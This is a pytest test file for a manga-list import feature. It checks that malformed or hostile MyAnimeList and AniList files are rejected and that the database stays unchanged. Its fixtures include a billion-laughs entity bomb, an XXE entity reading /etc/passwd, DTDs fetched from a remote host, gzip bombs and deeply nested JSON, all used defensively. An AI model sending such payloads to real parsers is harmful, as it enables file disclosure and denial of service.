"""Hostile and broken list files: each is refused whole with a message a reader can act on, and the
database is as it was, for this reader (whose library already has entries) and for everyone."""

from __future__ import annotations

import gzip
import json
import re
from collections.abc import Callable
from typing import Any

import pytest

from shuraba.accounts.models import User
from shuraba.library import services
from shuraba.library.listfile import MEMBERS_MAX, list_file_read
from shuraba.library.models import LibraryEntry, LibraryImport, UnmatchedEntry
from shuraba.library.records import ENTRIES_MAX, ListFileError
from tests.library import data_file, mal_anime, mal_list, mal_manga, snapshot, title

EXPORT = data_file("mal-manga-export.xml")
MB = 1_000_000

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<myanimelist><manga><manga_title>&lol9;</manga_title><my_status>Reading</my_status></manga></myanimelist>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE myanimelist [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<myanimelist><manga><manga_title>&x;</manga_title><my_status>Reading</my_status></manga></myanimelist>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE myanimelist SYSTEM "http://198.51.100.7/mal.dtd">
<myanimelist><manga><manga_title>Crow Sonata</manga_title><my_status>Reading</my_status></manga></myanimelist>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE myanimelist [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>
<myanimelist/>
"""
DTD = re.escape("the file declares a DTD (<!DOCTYPE …>); MAL exports have none, and shuraba reads none")
GZIP_TOO_LARGE = re.escape("the gzipped file decompresses to more than 20.0 MB, the limit; this is not a list export")


def _truncated_gzip() -> bytes:
    whole = gzip.compress(EXPORT)
    return whole[: len(whole) // 2]


def _latin1() -> bytes:
    return mal_list(mal_manga("Café Sonata")).decode().encode("latin-1")


def _many_members() -> bytes:
    return b"".join(gzip.compress(b" ") for _ in range(MEMBERS_MAX + 1))


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "truncated XML": (lambda: EXPORT[: len(EXPORT) // 2], r"the XML does not read at line \d+, column \d+ \("),
    "truncated XML says why": (lambda: EXPORT[: len(EXPORT) // 2], "a truncated download ends like this"),
    "Latin-1 bytes": (_latin1, "the file is not UTF-8 text \\(byte 0xe9 at offset [0-9,]+ does not read\\)"),
    "a 25 MB file": (
        lambda: mal_list(mal_manga("Crow Sonata")) + b" " * 25 * MB,
        "the file is 25.0 MB; the limit is 20.0 MB",
    ),
    "billion laughs": (lambda: BILLION_LAUGHS, DTD),
    "an external entity": (lambda: EXTERNAL_ENTITY, DTD),
    "an external DTD": (lambda: EXTERNAL_DTD, DTD),
    "a parameter entity": (lambda: PARAMETER_ENTITY, DTD),
    "billion laughs, gzipped": (lambda: gzip.compress(BILLION_LAUGHS), DTD),
    "a gzip bomb": (lambda: gzip.compress(b"<" + b" " * 30 * MB), GZIP_TOO_LARGE),
    "a gzip bomb in a second member": (
        lambda: gzip.compress(EXPORT) + gzip.compress(b" " * 21 * MB),
        GZIP_TOO_LARGE,
    ),
    "a truncated gzip": (_truncated_gzip, "the gzipped file is truncated \\(it ends before its last block\\)"),
    "a gzip header only": (lambda: gzip.compress(EXPORT)[:4], "the gzipped file is truncated|does not decompress"),
    "a corrupt gzip": (
        lambda: gzip.compress(EXPORT)[:10] + b"\xff" * 200,
        "the file starts like gzip but does not decompress",
    ),
    "gzip then garbage": (
        lambda: gzip.compress(EXPORT) + b"PK\x03\x04",
        "goes on after its end with something that is not gzip",
    ),
    "too many gzip members": (_many_members, f"more than {MEMBERS_MAX} gzip members"),
    "an anime-only MAL file": (
        lambda: mal_list(mal_anime("Lanterns of a Fictional Summer"), mal_anime("Another Fictional Show", anime_id=2)),
        "this is a MyAnimeList anime list; export your manga list \\(Export, then Manga List\\)",
    ),
    "a MAL file with no entries": (mal_list, "the file has no <manga> entries"),
    "a MAL file of 50,001 empty blocks": (
        lambda: mal_list("<manga/>" * (ENTRIES_MAX + 1)),
        "the file holds more than 50,000 entries",
    ),
    "an AniList list of 50,001 entries": (
        lambda: json.dumps(
            {"data": {"MediaListCollection": {"lists": [{"entries": [{}] * (ENTRIES_MAX + 1)}]}}}
        ).encode(),
        "the file holds more than 50,000 entries",
    ),
    "an RSS feed": (lambda: b'<?xml version="1.0"?><rss><channel/></rss>', "the root element is <rss>"),
    "a CSV file": (
        lambda: b"title,status\nCrow Sonata,Reading\n",
        "the file is neither MyAnimeList XML .* nor AniList JSON",
    ),
    "a ZIP file": (lambda: b"PK\x03\x04" + b"\x00" * 100, "the file is neither MyAnimeList XML"),
    "an empty file": (lambda: b"", "the file is empty"),
    "blank lines only": (lambda: b"\n \r\n\t", "the file is empty"),
    "broken JSON": (
        lambda: b'{"data": {"MediaListCollection": {"lists": [',
        "the JSON does not read at line 1, column \\d+",
    ),
    "JSON without MediaListCollection": (
        lambda: json.dumps({"data": {"Page": {"media": []}}}).encode(),
        "the JSON has no MediaListCollection: save AniList's answer to a MediaListCollection\\(type: MANGA\\) query",
    ),
    "an AniList error response": (
        lambda: json.dumps({"data": None, "errors": [{"message": "User not found", "status": 404}]}).encode(),
        "the file is an AniList error response, not a list",
    ),
    "JSON nested past reading": (
        lambda: b"[" * 200_000 + b"]" * 200_000,
        "the JSON nests arrays or objects too deeply",
    ),
    "a JSON number of 5,000 digits": (
        lambda: b'{"data": ' + b"9" * 5000 + b"}",
        "the JSON does not read \\(Exceeds the limit",
    ),
    "an AniList list without entries": (
        lambda: json.dumps({"data": {"MediaListCollection": {"lists": [], "hasNextChunk": False}}}).encode(),
        "the AniList list has no entries",
    ),
    "lists that are not lists": (
        lambda: json.dumps({"data": {"MediaListCollection": {"lists": {"name": "Reading"}}}}).encode(),
        "MediaListCollection.lists is not a list of lists",
    ),
}


@pytest.fixture
def shelved(reader: User) -> User:
    """A reader whose library already has entries (one with notes and a score), an import and an unmatched entry."""
    services.library_import(user=reader, data=mal_list(mal_manga("Crow Sonata"), mal_manga("Moonlit Ferry of Nowhere")))
    services.entry_save(user=reader, title=title("tidal-letters"), changes={"score": 8, "notes": "keep me"})
    return reader


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_or_broken_file_is_refused_whole_and_changes_nothing(shelved: User, case: str) -> None:
    make, message = HOSTILE[case]
    before = snapshot(shelved)
    assert (before.entries, before.imports, before.unmatched) == (2, 1, 1)

    with pytest.raises(ListFileError, match=message):
        services.library_import(user=shelved, data=make(), filename="list.xml")

    assert snapshot(shelved) == before


def test_the_limit_holds_to_the_byte_after_decompression(settings: Any) -> None:
    settings.LIBRARY_IMPORT_MAX_BYTES = 100_000
    document = mal_list(mal_manga("Crow Sonata"))
    fits = document + b" " * (100_000 - len(document))

    assert list_file_read(gzip.compress(fits)).entries[0].name == "Crow Sonata"
    with pytest.raises(ListFileError, match=r"decompresses to more than 0\.1 MB"):
        list_file_read(gzip.compress(fits + b" "))
    with pytest.raises(ListFileError, match=r"the file is 0\.1 MB; the limit is 0\.1 MB"):
        list_file_read(fits + b" ")


def test_a_gzipped_export_and_its_plain_twin_read_the_same() -> None:
    plain = list_file_read(EXPORT)

    assert list_file_read(gzip.compress(EXPORT)) == plain
    assert list_file_read(gzip.compress(EXPORT) + b"\x00" * 512) == plain  # zero padding after the end


def test_every_member_of_a_concatenated_gzip_is_read() -> None:
    first, second = EXPORT.split(b"\t<manga>", 1)
    two = gzip.compress(first) + gzip.compress(b"\t<manga>" + second)

    assert list_file_read(two) == list_file_read(EXPORT)


@pytest.mark.usefixtures("reader_is_adult")
def test_a_failure_after_the_entries_were_written_keeps_nothing(shelved: User, monkeypatch: pytest.MonkeyPatch) -> None:
    """One transaction: the entries are created, then the unmatched entries' write fails; nothing stays."""
    before = snapshot(shelved)
    created: list[int] = []

    insert = services.rows_insert

    def written_then_failed(model: type[object], *args: Any) -> int:
        if model is not UnmatchedEntry:
            return insert(model, *args)
        created.append(LibraryEntry.objects.filter(user=shelved).count())
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(services, "rows_insert", written_then_failed)
    with pytest.raises(RuntimeError, match="the disk is full"):
        services.library_import(user=shelved, data=EXPORT)

    assert created == [14]  # 12 new entries besides the 2 shelved were in the database when it failed
    assert snapshot(shelved) == before
    assert LibraryImport.objects.filter(user=shelved).count() == 1


@pytest.mark.usefixtures("reader_is_adult")
def test_a_failure_while_updating_keeps_nothing(shelved: User, monkeypatch: pytest.MonkeyPatch) -> None:
    before = snapshot(shelved)

    update = services.rows_update

    def failed(model: type[object], *args: Any) -> int:
        if model is not LibraryEntry:
            return update(model, *args)
        raise RuntimeError("the connection dropped")

    monkeypatch.setattr(services, "rows_update", failed)
    with pytest.raises(RuntimeError, match="the connection dropped"):
        services.library_import(
            user=shelved, data=mal_list(mal_manga("Crow Sonata", read_chapters="9"), mal_manga("Foam Lines"))
        )

    assert snapshot(shelved) == before
